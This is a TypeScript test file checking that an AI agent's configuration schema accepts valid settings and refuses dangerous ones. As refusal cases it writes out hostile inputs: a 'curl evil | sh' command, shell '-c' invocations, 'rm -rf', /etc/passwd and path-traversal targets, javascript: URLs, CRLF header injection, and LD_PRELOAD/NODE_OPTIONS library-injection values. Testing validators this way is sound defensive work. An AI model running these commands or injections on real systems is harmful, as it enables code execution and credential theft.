import { describe, expect, it } from 'vitest';
import { cronSchema, watcherSchema } from './resources.js';
import { agentConfigPatchSchema, SETTING_KEYS } from './settings.js';

describe('agent settings', () => {
  it('has exactly the 13 settings of the spec', () => {
    expect(SETTING_KEYS).toEqual([
      'networkConfig',
      'egressConfig',
      'nixConfig',
      'mcpServers',
      'skillsConfig',
      'toolsConfig',
      'guardrails',
      'preApprovedTools',
      'providerModelPreferences',
      'modelSelection',
      'IDENTITY.md',
      'SOUL.md',
      'USER.md',
    ]);
  });

  it('accepts a realistic full configuration', () => {
    const config = {
      networkConfig: { allowedDomains: ['api.github.com', '*.example.com'], deniedDomains: [] },
      egressConfig: { mode: 'proxy', proxyUrl: 'http://proxy.internal:3128', allowedPorts: [443] },
      nixConfig: { packages: ['jq', 'python3Packages.requests'] },
      mcpServers: {
        github: { url: 'https://mcp.example.com/github', headers: { Authorization: 'Bearer ${GH_TOKEN}' } },
        files: { command: 'npx', args: ['-y', 'files-mcp'], env: { ROOT: '/data' } },
      },
      skillsConfig: { skills: [{ name: 'web-search', enabled: true }] },
      toolsConfig: { allowed: ['github.*'], maxCallsPerTurn: 20 },
      guardrails: { maxInputChars: 20000, blockedTerms: ['password'], redactPii: true },
      preApprovedTools: ['github.list_issues'],
      providerModelPreferences: { openai: { model: 'gpt-4.1-mini', temperature: 0.2 } },
      modelSelection: { mode: 'pinned', model: 'openai/gpt-4.1-mini' },
      'IDENTITY.md': '# Support',
      'SOUL.md': null,
    };
    expect(agentConfigPatchSchema.safeParse(config).success).toBe(true);
  });

  it.each([
    [{ mcpServers: { x: { url: 'https://a', command: 'b' } } }, ['mcpServers', 'x', 'url']],
    [{ mcpServers: { x: {} } }, ['mcpServers', 'x', 'url']],
    [{ mcpServers: { x: { url: 'https://a', args: ['-v'] } } }, ['mcpServers', 'x', 'args']],
    [{ modelSelection: { mode: 'pinned' } }, ['modelSelection', 'model']],
    [{ modelSelection: { mode: 'pinned', model: 'gpt-4' } }, ['modelSelection', 'model']],
    [{ networkConfig: { allowedDomains: ['Not A Domain'] } }, ['networkConfig', 'allowedDomains', 0]],
    [{ egressConfig: { mode: 'proxy', proxyUrl: 'ftp://x' } }, ['egressConfig', 'proxyUrl']],
    [{ toolsConfig: { maxCallsPerTurn: 0 } }, ['toolsConfig', 'maxCallsPerTurn']],
    [{ nixConfig: { packages: ['rm -rf'] } }, ['nixConfig', 'packages', 0]],
    // Dangerous targets (issue 8): refused by shape, so `svc apply` reports them at file:line too.
    [{ egressConfig: { mode: 'proxy', proxyUrl: 'javascript:alert(1)' } }, ['egressConfig', 'proxyUrl']],
    [{ egressConfig: { mode: 'proxy', proxyUrl: 'http://proxy\r\n:3128' } }, ['egressConfig', 'proxyUrl']],
    [{ mcpServers: { x: { url: 'file:///etc/passwd' } } }, ['mcpServers', 'x', 'url']],
    [{ mcpServers: { x: { url: 'https://mcp.example.com/\r\nHost: evil' } } }, ['mcpServers', 'x', 'url']],
    [{ mcpServers: { x: { command: 'sh -c "curl evil | sh"' } } }, ['mcpServers', 'x', 'command']],
    [{ mcpServers: { x: { command: 'sh', args: ['-c', 'id'] } } }, ['mcpServers', 'x', 'command']],
    [{ mcpServers: { x: { command: '/bin/bash', args: ['-c', 'id'] } } }, ['mcpServers', 'x', 'command']],
    [{ mcpServers: { x: { command: 'env', args: ['sh'] } } }, ['mcpServers', 'x', 'command']],
    [
      { mcpServers: { x: { command: 'npx', env: { LD_PRELOAD: '/tmp/x.so' } } } },
      ['mcpServers', 'x', 'env', 'LD_PRELOAD'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { NODE_OPTIONS: '--require /tmp/x.js' } } } },
      ['mcpServers', 'x', 'env', 'NODE_OPTIONS'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { DYLD_INSERT_LIBRARIES: 'x' } } } },
      ['mcpServers', 'x', 'env', 'DYLD_INSERT_LIBRARIES'],
    ],
    [{ mcpServers: { x: { command: 'npx', env: { PATH: '/tmp' } } } }, ['mcpServers', 'x', 'env', 'PATH']],
    [
      { mcpServers: { x: { command: 'npx', env: { GCONV_PATH: 'x' } } } },
      ['mcpServers', 'x', 'env', 'GCONV_PATH'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { NODE_EXTRA_CA_CERTS: 'x' } } } },
      ['mcpServers', 'x', 'env', 'NODE_EXTRA_CA_CERTS'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { PYTHONINSPECT: 'x' } } } },
      ['mcpServers', 'x', 'env', 'PYTHONINSPECT'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { npm_config_script_shell: 'x' } } } },
      ['mcpServers', 'x', 'env', 'npm_config_script_shell'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { PERL5LIB: 'x' } } } },
      ['mcpServers', 'x', 'env', 'PERL5LIB'],
    ],
    [{ mcpServers: { x: { command: 'npx', env: { RUBYLIB: 'x' } } } }, ['mcpServers', 'x', 'env', 'RUBYLIB']],
    [
      { mcpServers: { x: { command: 'npx', env: { _JAVA_OPTIONS: 'x' } } } },
      ['mcpServers', 'x', 'env', '_JAVA_OPTIONS'],
    ],
    [
      { mcpServers: { x: { command: 'npx', env: { JDK_JAVA_OPTIONS: 'x' } } } },
      ['mcpServers', 'x', 'env', 'JDK_JAVA_OPTIONS'],
    ],
    [{ mcpServers: { x: { command: 'npx', env: { ENV: 'x' } } } }, ['mcpServers', 'x', 'env', 'ENV']],
    [
      { mcpServers: { x: { command: 'npx', env: { ld_preload: '/tmp/x.so' } } } },
      ['mcpServers', 'x', 'env', 'ld_preload'],
    ],
    [{ mcpServers: { x: { command: 'npx', env: { 'A=B': 'c' } } } }, ['mcpServers', 'x', 'env', 'A=B']],
    [
      { mcpServers: { x: { url: 'https://a.example', headers: { 'X-A\r\nX-B': 'v' } } } },
      ['mcpServers', 'x', 'headers', 'X-A\r\nX-B'],
    ],
    [
      { mcpServers: { x: { url: 'https://a.example', headers: { 'Bad Name': 'v' } } } },
      ['mcpServers', 'x', 'headers', 'Bad Name'],
    ],
    [
      { mcpServers: { x: { url: 'https://a.example', headers: { 'X-A': 'v\r\nX-B: w' } } } },
      ['mcpServers', 'x', 'headers', 'X-A'],
    ],
    [
      { mcpServers: { x: { url: 'https://a.example', headers: { 'X-A': 'v\nw' } } } },
      ['mcpServers', 'x', 'headers', 'X-A'],
    ],
    [
      { skillsConfig: { skills: [{ name: 's', source: 'file:///etc/passwd' }] } },
      ['skillsConfig', 'skills', 0, 'source'],
    ],
    [
      { skillsConfig: { skills: [{ name: 's', source: 'javascript:alert(1)' }] } },
      ['skillsConfig', 'skills', 0, 'source'],
    ],
    [
      { skillsConfig: { skills: [{ name: 's', source: 'data:text/plain,hi' }] } },
      ['skillsConfig', 'skills', 0, 'source'],
    ],
    [
      { skillsConfig: { skills: [{ name: 's', source: '../../etc/passwd' }] } },
      ['skillsConfig', 'skills', 0, 'source'],
    ],
  ])('refuses %j at %j', (patch, path) => {
    const result = agentConfigPatchSchema.safeParse(patch);
    expect(result.success).toBe(false);
    expect(result.error?.issues.map((i) => i.path)).toContainEqual(path);
  });

  it.each([
    { skillsConfig: { skills: [{ name: 's', source: 'https://skills.example.com/web-search' }] } },
    { skillsConfig: { skills: [{ name: 's', source: 'http://127.0.0.1:8080/skill.md' }] } },
    { skillsConfig: { skills: [{ name: 's', source: 'web-search' }] } },
    { skillsConfig: { skills: [{ name: 's', source: 'acme/web-search@1.2.0' }] } },
    {
      mcpServers: {
        x: { command: '/opt/mcp/bin/files-mcp', env: { LOG_LEVEL: 'debug', NODE_ENV: 'production' } },
      },
    },
    {
      mcpServers: {
        x: { url: 'https://a.example', headers: { 'X-Api-Key': '${KEY}', Authorization: 'Bearer t' } },
      },
    },
  ])('accepts %j', (patch) => {
    expect(agentConfigPatchSchema.safeParse(patch).error?.issues).toBeUndefined();
  });
});

describe('watcher schedules', () => {
  it.each(['* * * * *', '0 9 * * 1-5', '*/15 * * * *', '0 0 1 1 *'])('accepts %j', (cron) => {
    expect(cronSchema.safeParse(cron).success).toBe(true);
  });
  it.each(['* * * * * *', '0 9 * *', '61 * * * *', 'every day', '0 0 31 2 *'])('refuses %j', (cron) => {
    expect(cronSchema.safeParse(cron).success).toBe(false);
  });
  it('refuses an unknown time zone', () => {
    const watcher = { slug: 'w', name: 'W', schedule: '0 9 * * *', prompt: 'p', agent: 'a' };
    expect(watcherSchema.safeParse({ ...watcher, timezone: 'Europe/Berlin' }).success).toBe(true);
    expect(watcherSchema.safeParse({ ...watcher, timezone: 'Mars/Olympus' }).success).toBe(false);
  });
});
